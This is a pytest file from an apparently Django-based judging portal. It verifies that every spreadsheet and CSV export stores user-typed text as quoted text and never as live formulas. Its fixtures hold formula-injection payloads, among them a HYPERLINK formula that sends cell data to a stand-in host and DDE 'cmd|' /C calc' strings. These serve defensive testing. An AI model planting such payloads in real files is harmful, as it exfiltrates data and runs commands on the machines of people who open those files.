"""Every spreadsheet the portal writes stores what users typed as text, never as a formula.

A case title, unit name, judge's name or comment such as ``=HYPERLINK("http://evil.example/?"
&A1,"点我")`` used to become a live formula in the organizers' Excel (the 评分汇总表 and every
judge's score sheet; issue 12, finding 2). Here every export — each download URL and each
export command — is made with such text in every field a user types, and each file is opened:
no cell is a formula, the text reads as typed, and numbers stay numbers. The last tests fail
when a new export is added without being walked here, or when a file is written around
`core.spreadsheet`.
"""

from __future__ import annotations

import ast
import csv
import inspect
import io
import os
import re
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command, get_commands
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from audit.context import acting_as
from core import spreadsheet
from judging.models import Assignment
from judging.services import results as result_services
from judging.services.reviews import review_save
from publishing import services as publishing_services
from submissions.models import Photo

from .factories import CallFactory, UnitFactory, UserFactory
from .judging.results_kit import commit_hooks
from .judging.setupkit import accepted_case, judge_profile, make_round, points_for
from .publishing.kit import awarded_call, draft, ready

ROOT = Path(__file__).resolve().parent.parent


def link(tag: str) -> str:
    """The finding's example: a formula that sends a neighbouring cell to another site."""
    return f'=HYPERLINK("http://evil.example/?{tag}"&A1,"点我")'


#: One text per field a user types, each starting with one of the characters a spreadsheet
#: reads as a formula (OWASP: = + - @ tab CR).
TYPED = {
    "call": link("call"),
    "round": "-1+1 复评",
    "criterion": "+1+1 创新性",
    "unit": "-2+3+cmd|' /C calc'!A0 某街道",
    "title": link("title"),
    "summary": "\t=1+1 摘要",
    "contact": "\r=1+1 联系人",
    "judge": link("judge"),
    "affiliation": "+某大学 新闻学院",
    "comment": link("comment"),
    "unit_user": "+unit.user",  # a user name (letters, digits and @.+-_ only)
    "actor": link("organizer"),  # the organizer's full name
    "series": link("series"),
    "headline": "@headline 标题",
    "note": "@SUM(1+9)*cmd|' /C calc'!A0 编者按",
    "byline": "-文/记者 张某某",
    "feature": link("feature"),
    "unit_line": "+某区文明办",
    "feature_body": "=2+2 正文",
    "caption": link("caption"),
}


@pytest.fixture
def world(db):
    """A call judged and published, every text typed by a user hostile; the trail holds it all."""
    organizer = UserFactory(is_organizer=True, username="@organizer", full_name=TYPED["actor"])
    editor = UserFactory(is_editor=True, username="-editor", full_name="")
    unit_user = UserFactory(username=TYPED["unit_user"], full_name="")
    with acting_as(organizer):
        call = CallFactory(slug="hostile", title=TYPED["call"])
        unit = UnitFactory(name=TYPED["unit"])
        case = accepted_case(call, unit=unit, title=TYPED["title"], contact_name=TYPED["contact"])
        judge = judge_profile("-judge", name=TYPED["judge"], affiliation=TYPED["affiliation"])
        rnd = make_round(
            call,
            judges=[judge],
            cases=[case],
            name=TYPED["round"],
            blind=False,
            step="0.5",
            criteria=((TYPED["criterion"], 100, "说明"),),
            actor=organizer,
        )
    with acting_as(unit_user):  # named by their user name in the trail
        case.summary = TYPED["summary"]
        case.save()
    review_save(
        assignment=Assignment.objects.get(round=rnd),
        actor=judge.user,
        points=points_for(rnd, "87.5"),
        submit=True,
        comment=TYPED["comment"],
    )
    commit_hooks()
    result_services.results_compute(round=rnd, actor=organizer)

    published = awarded_call(top=1, excellent=0, titles={1: (TYPED["feature"], "某街道2")})
    series = draft(published, editor=editor, title=TYPED["series"], slug="hostile")
    inst = series.installments.get(number=1)
    ready(
        inst,
        editor=editor,
        headline=TYPED["headline"],
        editors_note=TYPED["note"],
        byline=TYPED["byline"],
    )
    feature = inst.features.get()
    photo = Photo.objects.get(case__call=published)
    publishing_services.feature_update(
        feature=feature,
        title=TYPED["feature"],
        unit_line=TYPED["unit_line"],
        body=TYPED["feature_body"],
        photos=[
            publishing_services.FeaturePhotoRow(photo=photo, position=1, caption=TYPED["caption"])
        ],
        actor=editor,
    )
    return {"organizer": organizer, "call": call, "round": rnd, "judge": judge}


# ---------------------------------------------------------------- what each file must hold


def xlsx_cells(content: bytes) -> list[Any]:
    """Every cell of every sheet, after checking the file holds no formula at all."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_text_cells(cells: list[Any], expected: dict[str, str]) -> None:
    """No formula; text a spreadsheet would read as one is a string cell with Excel's quote
    prefix (shown as typed, kept text when edited); each expected text starts a cell or one of
    its lines, exactly as typed."""
    lines = []
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            if spreadsheet.is_formula_like(cell.value):
                assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate
            lines.extend(cell.value.split("\n"))
    missing = {
        field: text
        for field, text in expected.items()
        if not any(line.startswith(text.split("\n")[0]) for line in lines)
    }
    assert missing == {}


def stored(*fields: str) -> dict[str, str]:
    return {f: TYPED[f] for f in fields}


def walk_results_export(client, world) -> None:
    response = client.get(reverse("judging:results_export", args=[world["round"].pk]))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells, stored("call", "title", "unit", "judge", "criterion", "comment"))
    # the judge's total, and the criterion score in the detail sheet, are numbers
    numbers = [c.value for c in cells if c.data_type == "n" and c.value == 87.5]
    assert len(numbers) >= 2


def walk_judge_sheet(client, world) -> None:
    response = client.get(
        reverse("judging:judge_sheet_xlsx", args=[world["round"].pk, world["judge"].pk])
    )
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells, stored("call", "title", "unit", "judge", "criterion", "comment"))
    assert [c.value for c in cells if c.data_type == "n" and c.value == 87.5] == [87.5, 87.5]


def walk_audit_export(client, world) -> None:
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    assert response["X-Audit-Capped"] == "0"
    assert_text_cells(xlsx_cells(response.content), dict(TYPED))


def walk_import_template(client, world) -> None:
    response = client.get(reverse("submissions:import_template", args=[world["call"].slug]))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells, {})
    phone = [c for c in cells if c.column == 4 and 2 <= c.row <= 500]
    assert {c.number_format for c in phone} == {"@"}  # a landline keeps its leading 0


def walk_call_template(client, world) -> None:
    """The same template, offered to anyone while the call is open (the public call page)."""
    open_call = CallFactory(slug="hostile-open", title=TYPED["call"])  # the world's is judged
    client.logout()
    response = client.get(reverse("submissions:call_template", args=[open_call.slug]))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells, {})
    assert [c.value for c in cells[:2]] == ["选送单位", "案例标题"]


def walk_case_list_export(client, world) -> None:
    response = client.get(reverse("submissions:call_cases_export", args=[world["call"].slug]))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_text_cells(cells, stored("call", "title", "unit", "summary", "contact"))


def walk_judge_import_template(client, world) -> None:
    response = client.get(reverse("judging:judge_import_template"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["姓名", "用户名", "邮箱", "单位", "工作单位", "专业领域", "初始密码"]
    assert all(not spreadsheet.is_formula_like(v) for row in rows for v in row)


def walk_export_results_command(tmp_path: Path, world) -> None:
    target = tmp_path / "汇总.xlsx"
    rnd = world["round"]
    call_command(
        "export_results",
        call=rnd.call.slug,
        round=rnd.number,
        output=str(target),
        stdout=io.StringIO(),
    )
    cells = xlsx_cells(target.read_bytes())
    assert_text_cells(cells, stored("call", "title", "unit", "judge", "criterion", "comment"))


def walk_import_template_command(tmp_path: Path, world) -> None:
    target = tmp_path / "模板.xlsx"
    call_command(
        "import_template", call=world["call"].slug, output=str(target), stdout=io.StringIO()
    )
    cells = xlsx_cells(target.read_bytes())
    assert_text_cells(cells, {})
    assert [c.value for c in cells[:2]] == ["选送单位", "案例标题"]


def walk_pledges_export(client, world) -> None:
    from .factories import InvitationFactory, PledgeSignatureFactory

    judge, rnd = world["judge"], world["round"]
    PledgeSignatureFactory(
        round=rnd, judge=judge, text=TYPED["comment"], units_listed=[TYPED["unit"]]
    )
    InvitationFactory(round=rnd, judge=judge, status="declined", reason=TYPED["comment"])
    response = client.get(reverse("judging:round_pledges_export", args=[rnd.pk]))
    assert response.status_code == 200
    assert_text_cells(xlsx_cells(response.content), stored("judge", "unit", "comment"))


#: Every download URL that hands out a spreadsheet, by name, and how it is checked.
WALKED_URLS = {
    "judging:results_export": walk_results_export,
    "judging:judge_sheet_xlsx": walk_judge_sheet,
    "judging:judge_import_template": walk_judge_import_template,
    "judging:round_pledges_export": walk_pledges_export,
    "audit:export": walk_audit_export,
    "submissions:import_template": walk_import_template,
    "submissions:call_template": walk_call_template,
    "submissions:call_cases_export": walk_case_list_export,
}
#: Every management command that writes a spreadsheet.
WALKED_COMMANDS = {
    "export_results": walk_export_results_command,
    "import_template": walk_import_template_command,
}
#: The project's other commands, and why they write no spreadsheet.
NOT_SPREADSHEETS = {
    "import_cases": "reads a table, writes none",
    "import_scores": "reads a table, writes none",
    "export_installment": "writes .txt, .docx and .html",
    "load_demo": "writes the database only",
    "draw_experts": "writes a drawing record (.json)",
    "verify_draw": "reads a drawing record (.json), writes nothing",
    "verify_results": "reads a file, writes none",
}


@pytest.mark.parametrize("name", sorted(WALKED_URLS))
def test_download_stores_typed_text_as_text(client, world, name):
    client.force_login(world["organizer"])
    WALKED_URLS[name](client, world)


@pytest.mark.parametrize("name", sorted(WALKED_COMMANDS))
def test_command_stores_typed_text_as_text(world, tmp_path, name):
    WALKED_COMMANDS[name](tmp_path, world)


# ---------------------------------------------------------------- the writer itself


def test_writer_keeps_numbers_numeric_and_text_as_typed():
    # (what is written, what Excel reads: value, type, quote prefix)
    table = [
        (3, 3, "n", False),
        (-4, -4, "n", False),
        (37.5, 37.5, "n", False),
        (Decimal("12.25"), 12.25, "n", False),
        (True, True, "b", False),
        (date(2026, 1, 2), datetime(2026, 1, 2), "d", False),
        (None, None, "n", False),
        ("-4", "-4", "s", True),
        ("=1+1", "=1+1", "s", True),
        ("+86 10", "+86 10", "s", True),
        ("@张", "@张", "s", True),
        ("\t=1", "\t=1", "s", True),
        ("\r=1", "\r=1", "s", True),
        ("普通文字", "普通文字", "s", False),
        ("中=1", "中=1", "s", False),
        ("#N/A", "#N/A", "s", False),
        (spreadsheet.styled(Decimal("0.5"), fmt="0%"), 0.5, "n", False),
        (spreadsheet.styled("=A1", bold=True), "=A1", "s", True),
    ]
    book = spreadsheet.XlsxBook()
    book.sheet("表").append([written for written, *_read in table])

    cells = xlsx_cells(book.to_bytes())

    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        tuple(read) for _written, *read in table
    ]
    assert (cells[-2].number_format, cells[-1].font.b) == ("0%", True)


def test_csv_writer_quotes_formula_text_and_keeps_numbers():
    content = spreadsheet.csv_bytes([["=1+1", "-4", -4, Decimal("2.5"), "普通", "@x", None]])
    assert content.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows == [["'=1+1", "'-4", "-4", "2.5", "普通", "'@x", ""]]


# ---------------------------------------------------------------- nothing escapes the walk


def _source_files() -> Iterator[Path]:
    """The project's Python files, without the tests, the virtualenv and migrations."""
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = [d for d in dirs if not d.startswith(".") and d not in {"tests", "migrations"}]
        for name in files:
            if name.endswith(".py"):
                yield Path(folder) / name


def test_no_spreadsheet_is_written_around_the_writer():
    """openpyxl, csv writers and the spreadsheet content types live in core/spreadsheet.py
    only (core/tabular.py reads tables with openpyxl and writes none)."""
    forbidden = re.compile(
        r"^\s*(?:from|import)\s+(?:openpyxl|xlsxwriter|xlwt|pandas)\b|csv\.writer|DictWriter"
        r"|to_excel|to_csv|text/csv|spreadsheetml|ms-excel",
        re.MULTILINE,
    )
    found = []
    for path in _source_files():
        rel = path.relative_to(ROOT).as_posix()
        if rel == "core/spreadsheet.py":
            continue
        for match in forbidden.finditer(path.read_text(encoding="utf-8")):
            if not (rel == "core/tabular.py" and "openpyxl" in match.group()):
                found.append((rel, match.group().strip()))
    assert found == []
    tabular = (ROOT / "core" / "tabular.py").read_text(encoding="utf-8")
    assert "Workbook(" not in tabular and "WriteOnlyCell" not in tabular


def _writer_calls() -> set[tuple[str, str]]:
    """(module, function) of every function that hands out a file through
    `spreadsheet.response`."""
    found = set()
    for path in _source_files():
        rel = path.relative_to(ROOT)
        tree = ast.parse(path.read_text(encoding="utf-8"))
        module = ".".join(rel.with_suffix("").parts)
        for node in ast.walk(tree):
            if not isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            for inner in ast.walk(node):
                if (
                    isinstance(inner, ast.Call)
                    and isinstance(inner.func, ast.Attribute)
                    and inner.func.attr == "response"
                    and isinstance(inner.func.value, ast.Name)
                    and inner.func.value.id == "spreadsheet"
                ):
                    found.add((module, node.name))
    found.discard(("core.spreadsheet", "response"))
    return found


def _url_names() -> dict[tuple[str, str], str]:
    """(module, function) of every view → its URL name (namespace:name)."""
    names: dict[tuple[str, str], str] = {}

    def walk(patterns, namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and p.name:
                view = inspect.unwrap(p.callback)
                key = (view.__module__, getattr(view, "__name__", type(view).__name__))
                names[key] = f"{namespace}{p.name}"

    walk(get_resolver().url_patterns, "")
    return names


def test_every_spreadsheet_download_is_walked():
    """A view that hands out a spreadsheet calls `spreadsheet.response` itself (no helper in
    between), so its URL is known, and it must be in WALKED_URLS."""
    calls = _writer_calls()
    views = _url_names()
    not_views = sorted(f"{m}.{f}" for m, f in calls if (m, f) not in views)
    assert not_views == [], "call spreadsheet.response in the view itself"
    assert sorted(views[c] for c in calls) == sorted(WALKED_URLS)


def test_every_management_command_is_walked_or_writes_no_spreadsheet():
    ours = {
        name
        for name, app in get_commands().items()
        if not app.startswith("django.") and (ROOT / app.replace(".", "/")).is_dir()
    }
    assert ours == set(WALKED_COMMANDS) | set(NOT_SPREADSHEETS)
